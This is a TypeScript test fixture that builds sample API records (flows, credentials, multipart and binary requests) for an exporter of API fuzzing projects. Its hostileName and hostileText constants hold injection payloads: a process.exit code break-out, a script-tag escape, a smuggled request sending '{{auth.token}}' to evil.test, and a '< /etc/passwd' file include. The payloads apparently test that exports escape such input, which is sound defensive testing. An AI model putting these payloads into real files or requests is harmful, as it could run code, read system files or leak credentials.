import type { ExportSource } from '../src/exporter.js';
import type {
  AuthAlternative,
  Binding,
  Expectation,
  Flow,
  HttpRequest,
  Output,
  Project,
  RequestHeader,
  Step,
  Variable,
  VariableSet,
} from '@assay/project-generator';
import {
  bundle,
  mark,
  parameter,
  point,
  refer,
  buildSampleRequest,
  targetName,
  type SampleServer,
} from './sample-requests.js';

const at = '2026-01-31T12:00:00.000Z';

/** An operationId that tries to escape from every text that contains it. */
export const hostileName =
  '"); process.exit(7); //`${x}` {{evil}} */ </script>\r\n###\nGET http://evil.test/';

/** A plain text body that looks like the next request, a script, an assertion and an included file. */
export const hostileText = [
  'first line',
  '###',
  'GET http://evil.test/{{auth.token}}',
  '',
  '{{ process.exit(7) }}',
  '{{auth.basic.username}} and {{$guid}} and ${auth.basic.username}',
  '< /etc/passwd',
  '?? status == 418',
  '// # @name createUser',
  'HTTP/1.1 200 OK',
  '> {% process.exit(7) %}',
  '\\',
].join('\n');

/**
 * Builds the records of a small API on a server under `/v1`. It has parameters in all four locations; JSON, multipart, binary and
 * text bodies; and basic AND an API key (in a header, query or cookie). It also has a prerequisite whose id is bound in path and
 * body, a teardown, and an operation with hostile names.
 */
export function sampleFor(server: SampleServer): ExportSource {
  const flows = [
    createUserFlow(server),
    getUserFlow(server),
    avatarFlow(server),
    uploadFlow(server),
    hostileFlow(server),
  ];
  const projects = flows.map((flow, index) => projectOf(flow, index, server));
  const byTag = (tag: string): string[] =>
    projects.filter((_, index) => flows[index]!.operation.tags.includes(tag)).map(({ id }) => id);
  return {
    group: {
      id: 'group-1',
      version: 1,
      type: 'group',
      name: 'Users "API" 1.0',
      description: 'A small API.',
      documentKey: 'users.yaml Users "API"',
      source: {
        kind: 'upload',
        location: null,
        sha256: 'ab'.repeat(32),
        mediaType: 'yaml',
        specVersion: '3.0',
      },
      tags: ['users', '__proto__'].map((name) => ({ name, projectIds: byTag(name) })),
      dependencyOrder: [
        [projects[0]!.id, projects[3]!.id, projects[4]!.id],
        [projects[1]!.id, projects[2]!.id],
      ],
      createdAt: at,
      updatedAt: at,
    },
    projects,
    flows,
    variableSets: [groupVariables(), ...flows.map((flow, index) => projectVariables(flow, index))],
    schemas: {
      id: bundle,
      type: 'schemas',
      dialect: 'https://json-schema.org/draft/2020-12/schema',
      schemas: {
        '/components/schemas/Text': { type: 'string' },
        '/components/schemas/User': {
          type: 'object',
          required: ['id', 'name'],
          properties: {
            id: { type: 'string', readOnly: true },
            name: { type: 'string' },
            friends: { type: 'array', items: { $ref: '#/schemas/~1components~1schemas~1User' } },
          },
        },
      },
    },
  };
}

// Credentials

const basic: RequestHeader = { name: 'Authorization', value: 'Basic ${auth.basic}', source: 'auth' };
const key: RequestHeader = { name: 'X-Key', value: '${auth.key}', source: 'auth' };
const acceptJson: RequestHeader = { name: 'Accept', value: 'application/json', source: 'accept' };
const sendsJson: RequestHeader = { name: 'Content-Type', value: 'application/json', source: 'content-type' };
const basicField = ['Authorization', 'Basic Og=='] as const;

const scheme = (name: string, ...variables: string[]): AuthAlternative['schemes'][number] => ({
  scheme: name,
  scopes: [],
  variables,
});
const basicScheme = scheme('basic', 'auth.basic.username', 'auth.basic.password');
const basicAnd = (other: AuthAlternative['schemes'][number]): AuthAlternative[] => [
  { schemes: [basicScheme, other], satisfiable: true },
];

function groupVariables(): VariableSet {
  const credential = (
    name: string,
    description: string,
    sensitive: boolean,
    auth: Variable['auth'],
  ): Variable => ({
    ...makeVariable(name, 'credential', ''),
    description,
    sensitive,
    ...(auth === undefined ? {} : { auth }),
  });
  return {
    id: 'variables-0',
    version: 1,
    type: 'variables',
    name: 'Users "API" 1.0',
    scope: 'group',
    parent: null,
    items: [
      credential('auth.basic.username', 'The user name of `basic`.', false, {
        scheme: 'basic',
        type: 'basic',
        part: 'username',
      }),
      credential('auth.basic.password', 'The password of `basic`.', true, {
        scheme: 'basic',
        type: 'basic',
        part: 'password',
      }),
      {
        ...makeVariable('auth.basic', 'generated', ''),
        sensitive: true,
        computedFrom: { function: 'basic', variables: ['auth.basic.username', 'auth.basic.password'] },
      },
      credential('auth.key', 'API key sent in header X-Key', true, {
        scheme: 'key',
        type: 'apiKey',
        part: 'key',
        in: 'header',
        paramName: 'X-Key',
      }),
      credential('auth.queryKey', 'API key sent in query api_key', true, {
        scheme: 'queryKey',
        type: 'apiKey',
        part: 'key',
        in: 'query',
        paramName: 'api_key',
      }),
      credential('auth.session', 'API key sent in cookie sid', true, {
        scheme: 'session',
        type: 'apiKey',
        part: 'key',
        in: 'cookie',
        paramName: 'sid',
      }),
    ],
    createdAt: at,
    updatedAt: at,
  };
}

// Steps

function createUser(server: SampleServer): HttpRequest {
  return buildSampleRequest(
    {
      method: 'POST',
      pathTemplate: '/users',
      target: '/users',
      headers: [acceptJson, sendsJson, basic, key],
      fields: [
        ['Accept', 'application/json'],
        ['Content-Type', 'application/json'],
        basicField,
        ['X-Key', ''],
      ],
      body: {
        mediaType: 'application/json',
        contentType: 'application/json',
        value: { name: 'Ada "the first" {{evil}}', age: 36, address: { city: 'Zürich' } },
        wire: `{"name":"${mark('body:/name', 'Ada \\"the first\\" {{evil}}')}","age":36,"address":{"city":"${mark('body:/address/city', 'Zürich')}"}}`,
      },
    },
    server,
  );
}

function getUser(server: SampleServer): HttpRequest {
  return buildSampleRequest(
    {
      method: 'GET',
      pathTemplate: '/users/{userId}',
      target: `/users/${mark('path.userId', 'u-1')}?limit=${mark('query.limit', '10')}&tags=a&tags=b%26c&filter%5Bcity%5D=Z%C3%BCrich&api_key=`,
      parameters: [
        parameter({ name: 'userId', in: 'path', serialized: 'u-1' }),
        parameter({
          name: 'limit',
          in: 'query',
          serialized: 'limit=10',
          insertionPoints: [point({ id: 'query.limit', type: 'integer', transforms: ['percent'] })],
        }),
        parameter({
          name: 'tags',
          in: 'query',
          serialized: 'tags=a&tags=b%26c',
          insertionPoints: [point({ id: 'query.tags', type: 'array', transforms: ['percent'] })],
        }),
        parameter({
          name: 'filter',
          in: 'query',
          style: 'deepObject',
          serialized: 'filter%5Bcity%5D=Z%C3%BCrich',
          insertionPoints: [point({ id: 'query.filter', type: 'object', transforms: ['percent'] })],
        }),
        parameter({
          name: 'verbose',
          in: 'query',
          required: false,
          enabled: false,
          serialized: 'verbose=true',
          insertionPoints: [point({ id: 'query.verbose', type: 'boolean' })],
        }),
        parameter({ name: 'X-Trace', in: 'header', serialized: 'trace "1"; 2' }),
        parameter({ name: 'theme', in: 'cookie', serialized: 'theme=dark%20mode' }),
      ],
      headers: [acceptJson, basic],
      fields: [
        ['Accept', 'application/json'],
        ['X-Trace', mark('header.X-Trace', 'trace "1"; 2')],
        basicField,
        ['Cookie', `theme=${mark('cookie.theme', 'dark%20mode')}`],
      ],
      credentials: [{ name: 'api_key', in: 'query', value: '${auth.queryKey}' }],
    },
    server,
  );
}

function deleteUser(server: SampleServer): HttpRequest {
  return buildSampleRequest(
    {
      method: 'DELETE',
      pathTemplate: '/users/{userId}',
      target: `/users/${mark('path.userId', 'u-1')}`,
      parameters: [parameter({ name: 'userId', in: 'path', serialized: 'u-1', value: '${path.userId_2}' })],
      headers: [basic],
      fields: [basicField, ['Cookie', 'sid=']],
      credentials: [{ name: 'sid', in: 'cookie', value: '${auth.session}' }],
    },
    server,
  );
}

const boundary = 'assay-0123456789abcdef';

function putAvatar(server: SampleServer): HttpRequest {
  const contentType = `multipart/form-data; boundary=${boundary}`;
  const part = (head: string[], text: string): string =>
    `--${boundary}\r\n${head.join('\r\n')}\r\n\r\n${text}\r\n`;
  return buildSampleRequest(
    {
      method: 'PUT',
      pathTemplate: '/users/{userId}/avatar',
      target: `/users/${mark('path.userId', 'u-1')}/avatar`,
      parameters: [parameter({ name: 'userId', in: 'path', serialized: 'u-1' })],
      headers: [{ name: 'Content-Type', value: contentType, source: 'content-type' }, basic, key],
      fields: [['Content-Type', contentType], basicField, ['X-Key', '']],
      body: {
        mediaType: 'multipart/form-data',
        contentType,
        value: { owner: 'u-1', meta: { alt: 'me' }, file: '<svg/>' },
        wire:
          part(
            ['Content-Disposition: form-data; name="owner"', 'Content-Type: text/plain'],
            mark('body:/owner', 'u-1'),
          ) +
          part(
            ['Content-Disposition: form-data; name="meta"', 'Content-Type: application/json'],
            '{"alt":"me"}',
          ) +
          part(
            ['Content-Disposition: form-data; name="file"; filename="file"', 'Content-Type: image/svg+xml'],
            '<svg/>',
          ) +
          `--${boundary}--\r\n`,
      },
    },
    server,
  );
}

function uploadBytes(server: SampleServer): HttpRequest {
  const contentType = 'application/octet-stream';
  return buildSampleRequest(
    {
      method: 'POST',
      pathTemplate: '/files',
      target: '/files',
      headers: [{ name: 'Content-Type', value: contentType, source: 'content-type' }],
      fields: [['Content-Type', contentType]],
      body: {
        mediaType: contentType,
        contentType,
        value: { $base64: '/wAB/g==' },
        wire: new Uint8Array([0xff, 0x00, 0x01, 0xfe]),
      },
    },
    server,
  );
}

function hostile(server: SampleServer): HttpRequest {
  return buildSampleRequest(
    {
      method: 'POST',
      pathTemplate: '/notes/{note"id}}',
      target: `/notes/${mark('path.note"id', '%7B%7Bevil%7D%7D')}%7D`,
      parameters: [
        parameter({ name: 'note"id', in: 'path', serialized: '%7B%7Bevil%7D%7D' }),
        parameter({ name: 'X-Evil', in: 'header', serialized: '{{evil}} {% x %}' }),
      ],
      headers: [{ name: 'Content-Type', value: 'text/plain', source: 'content-type' }],
      fields: [
        ['X-Evil', mark('header.X-Evil', '{{evil}} {% x %}')],
        ['Content-Type', 'text/plain'],
      ],
      body: { mediaType: 'text/plain', contentType: 'text/plain', value: hostileText, wire: hostileText },
    },
    server,
  );
}

// Flows

const userOutputs: readonly Output[] = [
  { name: 'id', from: '$response.body#/id', type: 'string' },
  { name: 'location', from: '$response.header.Location#regex:([^/?#]+)/?$', type: 'string' },
  { name: 'city', from: '$request.body#/address/city', type: 'string' },
];

function expect(status: string, mediaType?: string, schema = '/components/schemas/User'): Expectation {
  const kinds = { '2': 'success', '3': 'redirect', '4': 'client-error', '5': 'server-error' } as const;
  const digit = status.charAt(0);
  return {
    status,
    kind: digit === '2' || digit === '3' || digit === '4' || digit === '5' ? kinds[digit] : 'other',
    mediaTypes: mediaType === undefined ? [] : [{ type: mediaType, schema: refer(schema) }],
    headers: [],
    links: [],
  };
}

function step(
  id: string,
  role: Step['role'],
  operationPointer: string,
  request: HttpRequest,
  responses: Expectation[],
  outputs: readonly Output[] = [],
): Step {
  return {
    id,
    operationPointer,
    role,
    request,
    responses,
    outputs,
    fuzz: role === 'subject',
    destructive: ['PUT', 'PATCH', 'DELETE'].includes(request.method),
  };
}

const createStep = (server: SampleServer, role: Step['role']): Step =>
  step(
    'createUser',
    role,
    '/paths/~1users/post',
    createUser(server),
    [expect('201', 'application/json'), expect('400')],
    userOutputs,
  );

const deleteStep = (server: SampleServer): Step =>
  step('deleteUser', 'teardown', '/paths/~1users~1{userId}/delete', deleteUser(server), [
    expect('204'),
    expect('404'),
  ]);

function bind(
  to: string,
  insertionPoint: string,
  output: string,
  origin: Binding['origin'] = 'link',
): Binding {
  return {
    target: { step: to, insertionPoint },
    expression: `$steps.createUser.outputs.${output}`,
    origin,
    confidence: origin === 'link' ? 1 : 0.8,
  };
}

type FlowSketch = Pick<Flow, 'name' | 'operation' | 'steps' | 'auth'> & Partial<Flow>;

function flowOf(id: string, sketch: FlowSketch): Flow {
  return {
    id,
    version: 1,
    type: 'flow',
    edges: [],
    entry: sketch.steps[0]!.id,
    subject: sketch.steps.find(({ role }) => role === 'subject')!.id,
    teardown: sketch.steps.filter(({ role }) => role === 'teardown').map((each) => each.id),
    findings: [],
    anonymousAllowed: false,
    warnings: [],
    createdAt: at,
    updatedAt: at,
    ...sketch,
  };
}

function operation(
  id: string | null,
  method: string,
  path: string,
  tags: string[],
  summary = '',
): Flow['operation'] {
  const pointer = `/paths/${path.replaceAll('~', '~0').replaceAll('/', '~1')}/${method.toLowerCase()}`;
  return { id, method, path, pointer, tags, deprecated: false, summary };
}

function createUserFlow(server: SampleServer): Flow {
  return flowOf('flow-1', {
    name: 'createUser',
    operation: operation('createUser', 'POST', '/users', ['users'], 'Create a user'),
    harm: { rank: 'own-data', evidence: [] },
    steps: [createStep(server, 'subject'), deleteStep(server)],
    edges: [
      {
        from: 'createUser',
        to: 'deleteUser',
        bindings: [bind('deleteUser', 'path.userId', 'id')],
        optional: false,
      },
    ],
    auth: basicAnd(scheme('key', 'auth.key')),
  });
}

function getUserFlow(server: SampleServer): Flow {
  return flowOf('flow-2', {
    name: 'getUser',
    operation: operation('getUser', 'GET', '/users/{userId}', ['users'], 'Read a user'),
    harm: { rank: 'own-data', evidence: [] },
    steps: [
      createStep(server, 'prerequisite'),
      step('getUser', 'subject', '/paths/~1users~1{userId}/get', getUser(server), [
        expect('200', 'application/json'),
        expect('404'),
      ]),
      deleteStep(server),
    ],
    edges: [
      {
        from: 'createUser',
        to: 'getUser',
        bindings: [bind('getUser', 'path.userId', 'id')],
        optional: false,
      },
      {
        from: 'createUser',
        to: 'deleteUser',
        bindings: [bind('deleteUser', 'path.userId', 'id')],
        optional: false,
      },
    ],
    auth: basicAnd(scheme('queryKey', 'auth.queryKey')),
    findings: [
      {
        id: 'enumerable-resource-id',
        severity: 'medium',
        pointer: '/paths/~1users~1{userId}/get/parameters/0',
      },
    ],
  });
}

function avatarFlow(server: SampleServer): Flow {
  return flowOf('flow-3', {
    name: 'PUT /users/{userId}/avatar',
    operation: operation(null, 'PUT', '/users/{userId}/avatar', ['users']),
    harm: { rank: 'own-data', evidence: [] },
    steps: [
      createStep(server, 'prerequisite'),
      step('put_users_userId_avatar', 'subject', '/paths/~1users~1{userId}~1avatar/put', putAvatar(server), [
        expect('204'),
        expect('default'),
      ]),
    ],
    edges: [
      {
        from: 'createUser',
        to: 'put_users_userId_avatar',
        bindings: [
          bind('put_users_userId_avatar', 'path.userId', 'location', 'location-header'),
          bind('put_users_userId_avatar', 'body:/owner', 'id', 'dependency'),
        ],
        optional: false,
      },
    ],
    auth: basicAnd(scheme('key', 'auth.key')),
  });
}

function uploadFlow(server: SampleServer): Flow {
  return flowOf('flow-4', {
    name: 'files/upload',
    operation: operation('files/upload', 'POST', '/files', []),
    harm: { rank: 'own-data', evidence: [] },
    steps: [step('files_upload', 'subject', '/paths/~1files/post', uploadBytes(server), [expect('2XX')])],
    auth: [],
  });
}

function hostileFlow(server: SampleServer): Flow {
  return flowOf('flow-5', {
    name: hostileName,
    operation: operation(hostileName, 'POST', '/notes/{note"id}}', ['__proto__'], 'Two\nlines {{evil}}'),
    harm: { rank: 'own-data', evidence: [] },
    steps: [
      step('hostile', 'subject', '/paths/~1notes~1{note"id}}/post', hostile(server), [
        expect('200', 'text/plain', '/components/schemas/Text'),
      ]),
    ],
    auth: [],
  });
}

// Projects and their variables

function projectOf(flow: Flow, index: number, server: SampleServer): Project {
  const { scheme: protocol, address, port } = server;
  const sends = flow.steps.find(({ id }) => id === flow.subject)!.request;
  return {
    id: `project-${index + 1}`,
    version: 1,
    type: 'project',
    group: 'group-1',
    flow: flow.id,
    name: flow.name,
    description: flow.operation.summary,
    engine: 'web',
    distributed: false,
    driver: 'network_tcp_http',
    session: {
      type: 'web',
      performance_monitoring: true,
      analyze_on_finding: true,
      analyze_restart_timeout_soft: 10,
      analyze_restart_timeout_hard: 300,
      start_paused: false,
      delete_on_completed: true,
      performance_report_percent: 5000,
      performance_baseline_iterations: 100,
      run_web_sanity_check: true,
      run_web_auth_check: true,
    },
    monitors: [],
    targets: [
      {
        name: targetName(server),
        driver: {
          scheme: protocol,
          address,
          port,
          tls_certificate: '',
          tls_key: '',
          tls_ca: '',
          tls_validation: true,
        },
        monitors: [],
        variables: null,
        authentication: [
          ...(sends.headers.includes(basic)
            ? [
                {
                  name: 'username',
                  description: 'The user name of `basic`.',
                  default: '' as const,
                  sensitive: false,
                },
                {
                  name: 'password',
                  description: 'The password of `basic`.',
                  default: '' as const,
                  sensitive: true,
                },
              ]
            : []),
          ...(sends.headers.includes(key)
            ? [
                {
                  name: 'X-Key',
                  description: 'API key sent in header X-Key',
                  default: '' as const,
                  sensitive: true,
                },
              ]
            : []),
          ...sends.credentials.map(({ name, in: place }) => ({
            name,
            description: `API key sent in ${place} ${name}`,
            default: '' as const,
            sensitive: true,
          })),
        ],
      },
    ],
    variables: `variables-${index + 1}`,
    createdAt: at,
    updatedAt: at,
    children: [],
  };
}

const parameterValues: Readonly<Record<string, unknown>> = {
  'path.userId': 'u-1',
  'path.userId_2': 'u-1',
  'query.limit': 10,
  'query.tags': ['a', 'b&c'],
  'query.filter': { city: 'Zürich' },
  'query.verbose': true,
  'header.X-Trace': 'trace "1"; 2',
  'cookie.theme': 'dark mode',
  'path.note_id': '{{evil}}',
  'header.X-Evil': '{{evil}} {% x %}',
};

function projectVariables(flow: Flow, index: number): VariableSet {
  const names = new Set(
    flow.steps.flatMap(({ request }) => request.parameters.map(({ value }) => value.slice(2, -1))),
  );
  return {
    id: `variables-${index + 1}`,
    version: 1,
    type: 'variables',
    name: flow.name,
    scope: 'project',
    parent: 'variables-0',
    items: [...names].map((name) => makeVariable(name, 'parameter', parameterValues[name])),
    createdAt: at,
    updatedAt: at,
  };
}

function makeVariable(name: string, kind: Variable['kind'], value: unknown): Variable {
  return {
    name,
    kind,
    description: '',
    type: Array.isArray(value)
      ? 'array'
      : typeof value === 'number'
        ? 'integer'
        : typeof value === 'boolean'
          ? 'boolean'
          : typeof value === 'object'
            ? 'object'
            : 'string',
    format: null,
    constraints: {},
    required: true,
    sensitive: false,
    default: value,
    values: [],
    usedIn: [],
  };
}

/** The records of a small API at `https://api.test/v1`. */
export const sample: ExportSource = sampleFor({ scheme: 'HTTPS', address: 'api.test', port: 443 });
